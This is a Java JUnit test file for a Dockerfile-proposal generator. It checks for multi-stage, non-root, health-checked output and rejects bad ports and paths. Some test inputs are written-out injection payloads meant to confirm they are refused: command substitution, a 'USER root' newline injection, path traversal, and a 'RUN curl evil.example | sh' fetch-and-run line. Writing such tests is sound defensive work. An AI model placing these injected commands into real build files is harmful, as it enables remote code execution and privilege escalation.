package io.slipway.onboarding.detection;

import java.util.Arrays;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * The Dockerfile proposals follow the platform's services guide: multi-stage, a non-root user in
 * the image that runs, a HEALTHCHECK on the service's port and health path; and nothing but a
 * port and a plain path can be substituted into them.
 */
class DockerfileProposalsTests {

	private static final Pattern FROM = Pattern.compile("(?m)^FROM \\S+(?: AS (\\S+))?$");

	private static final Pattern USER = Pattern.compile("(?m)^USER (\\S+)$");

	private final DockerfileProposals proposals = new DockerfileProposals();

	static Stream<Arguments> variants() {
		BuildFacts node = new BuildFacts(List.of("node", "server.js"), true, null, null, false);
		return Stream.of(Arguments.of(Language.NODE_JS, List.of("package.json"), node, "node"),
				Arguments.of(Language.GO, List.of("go.mod"), BuildFacts.NONE, "/server"),
				Arguments.of(Language.PYTHON, List.of("requirements.txt"), BuildFacts.NONE, "python"),
				Arguments.of(Language.PYTHON, List.of("pyproject.toml"), BuildFacts.NONE, "python"),
				Arguments.of(Language.PHP, List.of("composer.json"), BuildFacts.NONE, "apache2-foreground"),
				Arguments.of(Language.JAVA, List.of("pom.xml"), BuildFacts.NONE, "java"),
				Arguments.of(Language.JAVA, List.of("build.gradle.kts"), BuildFacts.NONE, "java"));
	}

	@ParameterizedTest(name = "{0} {1}")
	@MethodSource("variants")
	void everyProposalIsMultiStageNonRootAndHealthChecked(Language language, List<String> markers, BuildFacts facts,
			String starts) {
		String dockerfile = this.proposals.render(language, markers, facts, 8443, "/internal/health_v2.json");

		Matcher from = FROM.matcher(dockerfile);
		List<String> stages = Stream.iterate(from.find(), (found) -> found, (found) -> from.find())
			.map((found) -> String.valueOf(from.group(1)))
			.toList();
		assertThat(stages).as("a build stage, then the runtime stage").hasSizeGreaterThanOrEqualTo(2);
		assertThat(stages.get(0)).isEqualTo("build");
		int runtimeStage = dockerfile.lastIndexOf("\nFROM ");
		Matcher user = USER.matcher(dockerfile);
		assertThat(user.find(runtimeStage)).as("a USER in the runtime stage").isTrue();
		assertThat(user.group(1)).isNotIn("root", "0", "0:0");
		assertThat(dockerfile.indexOf("COPY --from=build")).isGreaterThan(runtimeStage);
		assertThat(dockerfile).contains("EXPOSE 8443")
			.containsPattern("(?s)HEALTHCHECK [^\\n]*\\\\\\n\\s+CMD [^\\n]*http://127\\.0\\.0\\.1:8443/internal/health_v2\\.json")
			.contains(starts)
			.doesNotContain("{{")
			.doesNotContain(":latest");
		assertThat(dockerfile.indexOf("HEALTHCHECK")).isGreaterThan(runtimeStage);
	}

	@ParameterizedTest
	@ValueSource(ints = { 0, -1, 65536, 100000 })
	void portsOutsideTheRangeAreRefused(int port) {
		assertThatThrownBy(() -> this.proposals.render(Language.GO, List.of("go.mod"), BuildFacts.NONE, port, "/health"))
			.isInstanceOf(IllegalArgumentException.class)
			.hasMessageContaining("between 1 and 65535");
	}

	@ParameterizedTest
	@ValueSource(strings = { "", "health", "/health check", "/health\nUSER root", "/$(id)", "/`id`", "/a;b",
			"/a'b", "/a\"b", "/a&&b", "/../etc/passwd", "/a?b=1", "/a#b", "/é" })
	void healthPathsThatAreNotPlainPathsAreRefused(String path) {
		assertThatThrownBy(() -> this.proposals.render(Language.NODE_JS, List.of("package.json"), BuildFacts.NONE,
				3000, path))
			.isInstanceOf(IllegalArgumentException.class)
			.hasMessageContaining("the health path must start with /");
	}

	@Test
	void buildFactsThatAreNotPlainValuesFallBackToDefaults() {
		BuildFacts hostile = new BuildFacts(List.of("node", "x\"]\nUSER root\nCMD [\"sh"), false,
				"1.22\nRUN curl evil.example | sh", "../../main.py", false);

		String node = this.proposals.render(Language.NODE_JS, List.of("package.json"), hostile, 3000, "/health");
		String go = this.proposals.render(Language.GO, List.of("go.mod"), hostile, 8080, "/health");
		String python = this.proposals.render(Language.PYTHON, List.of("requirements.txt"), hostile, 8000, "/health");

		assertThat(node).contains("CMD [\"node\", \"index.js\"]").doesNotContain("USER root");
		assertThat(go).contains("FROM golang:" + DockerfileProposals.DEFAULT_GO_VERSION + "-alpine AS build")
			.doesNotContain("evil");
		assertThat(python).contains("CMD [\"python\", \"main.py\"]").doesNotContain("../");
	}

	@Test
	void unknownLanguagesGetNoProposal() {
		assertThatThrownBy(
				() -> this.proposals.render(Language.UNKNOWN, List.of(), BuildFacts.NONE, 8080, "/health"))
			.isInstanceOf(IllegalArgumentException.class);
		assertThat(Arrays.stream(Language.values()).filter((language) -> language != Language.UNKNOWN))
			.allSatisfy((language) -> assertThat(language.defaultPort()).isBetween(1, 65535));
	}

}
